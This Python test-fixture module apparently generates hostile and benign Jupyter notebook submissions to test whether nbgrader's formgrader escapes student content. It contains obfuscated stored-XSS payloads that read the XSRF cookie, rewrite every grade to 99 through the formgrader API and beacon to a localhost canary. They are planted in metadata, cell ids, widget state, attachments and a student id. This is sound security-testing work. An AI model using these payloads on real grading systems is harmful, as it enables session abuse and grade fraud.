"""What students hand in for others to read: submissions that attack the reader, and honest ones.

`{js}` stands for a script that tells on itself: it calls a server that nobody should call, and raises its own score.
"""

from __future__ import annotations

import base64
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYPj/HwADAgH/p7dIOAAAAABJRU5ErkJggg=="
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80"><circle cx="40" cy="40" r="38" fill="#009E73"/></svg>'

HERE = Path(__file__).parent / "reader"


def script(name: str, port: int) -> dict[str, str]:
    """What stands for `{js}` and the rest. A script without quotes and spaces fits everywhere."""
    told = f"http://127.0.0.1:{port}/{name}"
    work = (
        f"window.pwned=1;fetch({told!r});"
        "var id=window.submission_id;"
        "if(id)fetch('/formgrader/api/grades?submission_id='+id).then(r=>r.json()).then(gs=>gs.forEach(g=>"
        "fetch('/formgrader/api/grade/'+g.id,{method:'PUT',headers:{'Content-Type':'application/json',"
        "'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]},body:JSON.stringify({...g,manual_score:99})})))"
    )
    encoded = base64.b64encode(work.encode()).decode()
    page = base64.b64encode(f"<script>fetch({told!r})</script>".encode()).decode()
    letters = ",".join(str(ord(letter)) for letter in work)
    return {"js": f"eval(String.fromCharCode({letters}))", "base64": encoded, "url": told, "page": page}


def attacks(port: int) -> dict[str, NotebookNode]:
    """Every attack on the reader as a notebook."""
    made = {}
    for path in sorted(HERE.iterdir()):
        text = path.read_text(encoding="utf-8")
        for key, value in script(path.stem, port).items():
            text = text.replace("{" + key + "}", value)
        made[path.stem] = notebook(new_markdown_cell(text) if path.suffix == ".md" else new_code_cell(text))
    for change in (
        in_a_raw_cell,
        in_metadata,
        in_a_cell_id,
        in_widget_state,
        in_attachments,
        in_an_attachment_that_is_not_there,
    ):
        made[change.__name__] = change(script(change.__name__, port))
    return made


def notebook(*cells: NotebookNode) -> NotebookNode:
    return new_notebook(cells=list(cells))


def in_a_raw_cell(about: dict[str, str]) -> NotebookNode:
    return notebook(new_raw_cell(f"<script>{about['js']}</script>", metadata={"raw_mimetype": "text/html"}))


def in_metadata(about: dict[str, str]) -> NotebookNode:
    breaks_out = f'"><img src=x onerror={about["js"]}>'
    nb = notebook(new_code_cell("1 + 1"))
    nb.cells[0].metadata.update(tags=[breaks_out], magics_language=breaks_out, alt=breaks_out)
    nb.metadata.update(title=f"</title><script>{about['js']}</script>")
    nb.metadata["language_info"] = {"name": breaks_out, "pygments_lexer": breaks_out}
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": breaks_out, "language": breaks_out}
    return nb


def in_a_cell_id(about: dict[str, str]) -> NotebookNode:
    nb = notebook(new_code_cell("1 + 1"))
    nb.cells[0].id = f'"><img src=x onerror={about["js"]}>'
    return nb


def in_widget_state(about: dict[str, str]) -> NotebookNode:
    nb = notebook(new_markdown_cell("A widget"))
    state = {"state": {"x": {"model_name": f"</script><script>{about['js']}</script>"}}, "version_major": 2}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    return nb


def in_attachments(about: dict[str, str]) -> NotebookNode:
    breaks_out = f'x" onerror="{about["js"]}'
    held = {"a.png": {"image/png": breaks_out}, "b.png": {breaks_out: PNG}, "c.svg": {"image/svg+xml": breaks_out}}
    return notebook(
        new_markdown_cell("![a](attachment:a.png) ![b](attachment:b.png) ![c](attachment:c.svg)", attachments=held)
    )


def in_an_attachment_that_is_not_there(about: dict[str, str]) -> NotebookNode:
    """Formgrader and the feedback would end with an error."""
    return notebook(new_markdown_cell("![my drawing](attachment:gone.png)"))


# a student's id, which formgrader writes into its pages as it is
NAME = '"><img src=x onerror=window.pwned=1>'


HONEST = {
    "writes": notebook(
        new_markdown_cell(
            "# What I found\n\nThe **smallest** error is at `h = 1e-5`, as in *lecture 3*:\n\n"
            "| h | error |\n|:--|--:|\n| 1e-1 | 0.2 |\n| 1e-5 | 1e-10 |\n\n"
            "1. first\n2. second\n\n> a quotation\n\n```python\nfor i in range(3):\n\n    print(i)\n```\n\n"
            "See <https://docs.python.org/3/> or [the paper](https://arxiv.org/abs/1502.05767). I paid $5, she paid $6."
        )
    ),
    "calculates": notebook(
        new_markdown_cell(
            "With $\\tanh'(x) = 1 - \\tanh^2(x)$ and\n\n"
            "$$\\frac{\\partial L}{\\partial w} = \\sum_{i=1}^{n} x_i \\, g_i$$\n\n"
            "\\begin{align}\na &= b + c \\\\\n  &= d\n\\end{align}\n\nso $a < b$ and $\\|w\\|_2 > 0$."
        )
    ),
    "draws": notebook(
        new_markdown_cell("![a dot](attachment:dot.png)", attachments={"dot.png": {"image/png": PNG}}),
        new_code_cell(f"from IPython.display import SVG, HTML, display\ndisplay(SVG({SVG!r}))\ndisplay(HTML({SVG!r}))"),
        new_code_cell("%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2, 4], [3, 1, 2]); plt.show()"),
    ),
    "tabulates": notebook(
        new_code_cell(
            "from IPython.display import HTML, Markdown, display\n"
            'display(HTML(\'<table border="1" class="dataframe"><thead><tr><th>h</th><th>error</th></tr></thead>'
            "<tbody><tr><td>0.1</td><td>0.2</td></tr></tbody></table>'))\n"
            "display(Markdown('**bold** and `code`'))"
        )
    ),
    "prints_and_fails": notebook(
        new_code_cell("print('a < b & c')\n{'a': [1, 2, 3]}"), new_code_cell("def f(x):\n    return x / 0\nf(1)")
    ),
}
